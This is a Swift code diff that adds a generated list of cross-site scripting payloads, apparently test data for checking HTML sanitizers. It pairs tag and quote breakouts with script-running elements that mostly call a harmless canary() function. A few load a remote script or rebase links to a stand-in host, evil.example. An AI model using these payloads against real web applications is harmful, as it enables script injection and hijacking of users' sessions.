@@ -56,3 +56,22 @@ public let scriptPayloads: [String] = [
   "{{constructor.constructor('canary()')()}}",
   "${canary()}",
 ]
+
+/// Each way out of a place that a text can stand in, with each of several elements that run.
+///
+/// With ``scriptPayloads`` these are more than 200.
+public let combinedPayloads: [String] = {
+  let waysOut = [
+    "\" ", "' ", "\">", "'>", "></a>", "</title>", "</style>", "</script>", "</textarea>",
+    "</option></select>",
+    "</svg>", "-->", "]]>", "\u{0}", "\r\n\r\n", "&quot;>",
+  ]
+  let elements = [
+    "<script>canary()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img/src=x/onerror=canary()>", "<svg//onload=canary()>", "<object data=javascript:canary()>",
+    "<iframe src=javascript:parent.canary()>", "<embed src=javascript:canary()>",
+    "<base href=//evil.example/>", "<math href=javascript:canary()>x</math>",
+    "<marquee onstart=canary()>x</marquee>",
+  ]
+  return waysOut.flatMap { out in elements.map { out + $0 } }
+}()
